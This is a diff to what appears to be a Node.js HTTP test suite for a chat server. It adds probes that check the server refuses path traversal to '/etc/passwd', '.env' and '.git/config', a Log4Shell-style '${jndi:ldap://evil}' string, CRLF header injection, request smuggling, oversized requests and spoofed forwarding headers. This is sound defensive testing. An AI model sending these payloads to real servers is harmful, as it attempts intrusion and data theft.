@@ -1,7 +1,7 @@
 /** What the framework, its parsers and Node's refuse: in our words, whoever speaks. */
 import { once } from 'node:events';
 import { type AddressInfo, connect } from 'node:net';
-import { gzipSync } from 'node:zlib';
+import { brotliCompressSync, gzipSync } from 'node:zlib';
 import { pino } from 'pino';
 import t, { type Test } from 'tap';
 import { describeRequest } from '../../src/http/request-log.ts';
@@ -54,6 +54,17 @@ t.test('an address that is none is answered so, and leads round no door', async 
     '/api/chats/1/nothing',
     '/../../etc/passwd',
     '/index.html',
+    '/./index.html',
+    '/%2e%2e/package.json',
+    '/..%2fpackage.json',
+    '/..%5cpackage.json',
+    '/index.html%00.js',
+    '/.env',
+    '/%2eenv',
+    '/.git/config',
+    '//etc/passwd',
+    '/C:%5Cboot.ini',
+    '/docs/..%2f..%2fpackage.json',
     '/constructor',
     '/__proto__',
   ]) {
@@ -62,6 +73,12 @@ t.test('an address that is none is answered so, and leads round no door', async 
   for (const url of ['/%zz', '/%', '/api/chats/%ff', '/api/chats/%C0%AF', '/api/user/%ED%A0%80']) {
     for (const person of [alice, nobody()]) refused(t, await person.get(url), 400, badUrl, url);
   }
+  for (const url of ['/assets/..%2findex.html', '/assets/%2e%2e%2fsw.js', '/assets/.env']) {
+    refused(t, await nobody().get(url), 400, undefined, url);
+  }
+  // RFC 3986, 6.2.2.2: the same address, and so the same door.
+  refused(t, await nobody().get('/api/%63hats'), 403);
+  t.equal((await alice.get('/api/%63hats')).status, 200);
   // An empty id is an id that does not fit.
   refused(t, await alice.get('/api/chats/'), 400);
   refused(t, await nobody().get('/api/chats/'), 403);
@@ -120,6 +137,9 @@ t.test('fields come as a form or as JSON', async (t) => {
     'Application/X-WWW-Form-URLencoded',
     `${form}; charset=utf-8`,
     `${form} ; a=b`,
+    // What a form's bytes mean is fixed, whatever is said of them: see the URL standard, 5.
+    `${form}; charset=utf-16`,
+    ...[`${form};`, `${form}\t`, `\t${form}`, ` ${form}\t;\t`],
   ];
   for (const type of types) {
     done(t, await create(alice, 'title=a+b%21', { 'content-type': type }), 201);
@@ -128,10 +148,12 @@ t.test('fields come as a form or as JSON', async (t) => {
     done(t, await create(alice, '{"title":"a b!"}', { 'content-type': type }), 201);
   }
   done(t, await createByJson(alice, '\ufeff{"title":"a b!","x":{"y":[1]}}'), 201);
+  const alike = '{"x":{"title":"\\":{","x":1},"y":["title",{"y":2}],"title":"a b!"}';
+  done(t, await createByJson(alice, alike), 201);
   const titles = (await alice.get('/api/chats')).body.chats.map(
     (chat: { title: string }) => chat.title,
   );
-  t.strictSame(titles, [...Array(8).fill('a b!'), 'Sunday hike']);
+  t.strictSame(titles, [...Array(14).fill('a b!'), 'Sunday hike']);
 });
 
 t.test('fields come in no other way', async (t) => {
@@ -160,12 +182,18 @@ t.test('fields come in no other way', async (t) => {
     refused(t, await create(alice, 'title=x', { 'content-type': type }), 400, badBody, type);
   }
   refused(t, await alice.request({ method: 'POST', url: '/api/chats' }), 400, badBody);
+  for (const headers of [{}, { 'content-type': '' }]) {
+    refused(t, await create(alice, 'title=x', headers), 400, bodyType, 'of no type');
+  }
   for (const [type, body] of [
     [form, 'title=x'],
     ['application/json', '{"title":"x"}'],
   ] as const) {
-    const headers = { 'content-type': type, 'content-encoding': 'gzip' };
-    refused(t, await create(alice, gzipSync(body), headers), 400);
+    const packed = { gzip: gzipSync(body), br: brotliCompressSync(body), identity: body };
+    for (const [coding, payload] of Object.entries(packed)) {
+      const headers = { 'content-type': type, 'content-encoding': coding };
+      refused(t, await create(alice, payload, headers), 400, bodyType, coding);
+    }
   }
   t.strictSame(allRows(file), before);
 });
@@ -176,6 +204,7 @@ t.test('JSON is one object of strings', async (t) => {
   const bodies = [
     ...['', '{', '[]', '["x"]', 'null', '1', 'true', '"x"', '{"title":NaN}', "{'title':'x'}"],
     ...['{"title":"x"}x', '{"title":"x"}{}', '{"title":"x",}', '{"__proto__":{},"title":"x"}'],
+    ...['{"title":"x","title":"x"}', '{"title":1,"titl\\u0065":"x"}', '{"a":{},"b":[],"a":0}'],
     '{"constructor":{"prototype":{"x":1}},"title":"x"}',
     `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
   ];
@@ -221,6 +250,28 @@ t.test('a form’s fields stand in it once, whatever else does', async (t) => {
   t.equal(Reflect.get({}, 'x'), undefined);
   const many = Array.from({ length: 5000 }, (_, i) => `k${i}=1`).join('&');
   done(t, await send(`${many}&title=fine`), 201);
+});
+
+t.test('what nobody knows is ignored, however much of it there is', async (t) => {
+  const { alice } = await startCast(t);
+  const fields = (sign: string) => Array.from({ length: 5000 }, (_, i) => `${i}${sign}1`);
+  const json = `{${fields(':')
+    .map((field) => field.replace(/^\d+/, '"$&"'))
+    .join()},"title":"x"}`;
+  const queries = [fields('=').join('&'), '&'.repeat(10_000), `x=${'y'.repeat(15_000)}`];
+  const asks = [
+    ...queries.map((query) => () => alice.get(`/api/chats?${query}`)),
+    () => createByJson(alice, json),
+  ];
+  for (const ask of asks) {
+    const times: number[] = [];
+    for (let i = 0; i < 5; i++) {
+      const began = performance.now();
+      t.ok((await ask()).status < 202);
+      times.push(performance.now() - began);
+    }
+    t.ok(Math.min(...times) < 50, `${Math.min(...times)} ms`);
+  }
 });
 
 t.test('percent-encoding that is none is taken as it stands', async (t) => {
@@ -391,6 +442,32 @@ t.test('bytes that are no request are answered in the same shape', async (t) => 
     ['two hosts', `${get}Host: x\r\nHost: y\r\n\r\n`, 400, badRequest],
     ['a space before a colon', `${get}Host : x\r\n\r\n`, 400, badRequest],
     ['a folded header', `${get}Host: x\r\nA: b\r\n c\r\n\r\n`, 400, badRequest],
+    ['random bytes', '\x00\xff\x80\x7f{}\r\n\r\n', 400, badRequest],
+    ['bare line feeds', 'GET /healthz HTTP/1.1\nHost: x\n\n', 400, badRequest],
+    [
+      'a chunk of more than there is',
+      `${login}Transfer-Encoding: chunked\r\n\r\n${'f'.repeat(20)}\r\n`,
+      400,
+      badRequest,
+    ],
+    [
+      'a coding that is not the last',
+      `${login}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
+      400,
+      badRequest,
+    ],
+    [
+      'more headers than anybody sends',
+      `${get}Host: x\r\n${'a: b\r\n'.repeat(200)}\r\n`,
+      431,
+      tooLong,
+    ],
+    [
+      'a giant that asks before it comes',
+      `${login}Expect: 100-continue\r\nContent-Length: 1073741824\r\n\r\n`,
+      413,
+      tooLarge,
+    ],
     [
       'both lengths',
       `${login}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
@@ -478,4 +555,112 @@ t.test('HTTP/1.0 and upgrades get a plain answer', async (t) => {
     done(t, parseAnswer(await exchange(port, bytes)));
   }
   t.equal(await exchange(port, 'CONNECT x:80 HTTP/1.1\r\nHost: x\r\n\r\n'), '', 'no tunnel');
+});
+
+t.test('what is asked at once is answered in order, errors as well', async (t) => {
+  const { port } = await listen(t);
+  const host = 'HTTP/1.1\r\nHost: x\r\n';
+  const early = `POST /api/chats ${host}Content-Type: ${form}\r\nContent-Length: 7\r\n\r\ntitle=x`;
+  const asked = ['/healthz', '/nothing', '/openapi.json'].map((url) => `GET ${url} ${host}\r\n`);
+  const text = await exchange(port, [...asked, early, ...asked].join(''));
+  const statuses = [...text.matchAll(/HTTP\/1.1 (\d+)/g)].map(([, status]) => Number(status));
+  t.strictSame(statuses, [200, 404, 200, 403, 200, 404, 200]);
+});
+
+t.test(
+  'what is refused before it is a request stands in the log, and nothing of what it says',
+  async (t) => {
+    const lines: string[] = [];
+    const logger = pino({}, { write: (line: string) => void lines.push(line) });
+    const { app, nobody, register } = await startWorld(t, {}, { logger });
+    await app.listen({ port: 0, host: '127.0.0.1' });
+    const { port } = app.server.address() as AddressInfo;
+    const evil = '\u001b[31m\u0024{jndi:ldap://evil}';
+    const host = 'HTTP/1.1\r\nHost: x\r\n';
+    const sent: [bytes: string, told: object][] = [
+      [`GET /evil%zz ${host}\r\n`, { method: 'GET', status: 400, address: '127.0.0.1' }],
+      [`EVIL /evil ${host}\r\n`, { status: 400, reason: 'HPE_INVALID_METHOD' }],
+      [`GET /evil ${host}Evil: ${'evil'.repeat(250_000)}\r\n\r\n`, { status: 431 }],
+      [`GET /\u001b[31mevil ${host}\r\n`, { status: 400 }],
+      [`GET /evil ${host}User-Agent: evil\rINJECTED: evil\r\n\r\n`, { status: 400 }],
+      ['\x16\x03\x01evil\r\n', { status: 400, reason: 'HPE_INVALID_METHOD' }],
+    ];
+    for (const [bytes, told] of sent) {
+      lines.length = 0;
+      await exchange(port, bytes).catch(() => undefined);
+      t.equal(lines.length, 1, `one line for ${bytes.slice(0, 30)}`);
+      t.match(JSON.parse(lines[0] ?? '{}'), told);
+      t.notMatch(lines[0], /evil|INJECTED/i);
+      t.ok((lines[0]?.length ?? 0) < 500, 'a short one');
+    }
+    lines.length = 0;
+    const alice = await register('alice');
+    await alice.get(`/api/user?name=${encodeURIComponent(evil)}`, {
+      'user-agent': evil,
+      referer: evil,
+    });
+    await nobody().get(`/${encodeURIComponent(`${evil}\r\n{"level":60}`)}`, {
+      'x-forwarded-for': evil,
+    });
+    await nobody().post('/api/login', { name: evil, password });
+    t.equal(lines.length, 4);
+    for (const line of lines) t.match(JSON.parse(line), { level: 30, msg: 'request' });
+    t.notMatch(lines.join(''), /evil|\\u001b|"level":60/);
+    t.notOk(lines.join('').includes('\u001b'));
+  },
+);
+
+t.test('who asks is told by the proxy that is trusted, and by nobody else', async (t) => {
+  const addressOf = async (proxies: string, forwarded: string) => {
+    const lines: string[] = [];
+    const logger = pino({}, { write: (line: string) => void lines.push(line) });
+    const { nobody } = await startWorld(t, { TRUST_PROXY: proxies }, { logger });
+    await nobody().get('/api/chats', { 'x-forwarded-for': forwarded });
+    return JSON.parse(lines[0] ?? '{}').address;
+  };
+  t.equal(await addressOf('', '6.6.6.6'), '127.0.0.1', 'no proxy');
+  t.equal(await addressOf('10.0.0.0/8', '6.6.6.6'), '127.0.0.1', 'another proxy');
+  t.equal(
+    await addressOf('127.0.0.1', '6.6.6.6, 7.7.7.7'),
+    '7.7.7.7',
+    'what it was told is not what it saw',
+  );
+  t.equal(await addressOf('127.0.0.1,10.0.0.0/8', '6.6.6.6, 7.7.7.7, 10.1.1.1'), '7.7.7.7');
+  t.equal((await addressOf('127.0.0.1', 'x'.repeat(9_000))).length, 45, 'no more than an address');
+});
+
+t.test('no line break in what is sent makes a header', async (t) => {
+  const { alice, nobody, chat } = await startCast(t);
+  const lineBreak = '\r\nX-Evil: 1';
+  const encoded = encodeURIComponent(lineBreak);
+  const answers = [
+    await alice.get(`/api/user?name=x${encoded}`),
+    await alice.get(`${chat}?limit=50${encoded}`),
+    await alice.get(`${chat}${encoded}`),
+    await alice.get(`/api/invites/x${encoded}`),
+    await alice.get(`/docs${encoded}`),
+    await alice.get(`/assets/x.js${encoded}`),
+    await alice.post('/api/chats', { title: `x${lineBreak}` }),
+    await alice.post(chat, { content: `x${lineBreak}` }),
+    await alice.put('/api/user', { name: `x${lineBreak}` }),
+    await nobody().post('/api/login', { name: `alice${lineBreak}`, password }),
+  ];
+  for (const { status, headers } of answers) {
+    t.ok(status < 500);
+    t.notMatch(JSON.stringify(headers), /evil/i);
+  }
+});
+
+t.test('many parameters and long ones cost little', async (t) => {
+  const { alice } = await startCast(t);
+  for (const query of ['a&'.repeat(5_000), `a=${'x'.repeat(15_000)}`, 'a[]=1&'.repeat(2_000)]) {
+    const times: number[] = [];
+    for (let i = 0; i < 3; i++) {
+      const began = performance.now();
+      t.equal((await alice.get(`/api/chats?${query}`)).status, 200);
+      times.push(performance.now() - began);
+    }
+    // Of three, since other tests may be in the way of one.
+    t.ok(Math.min(...times) < 50, 'quickly');
+  }
 });
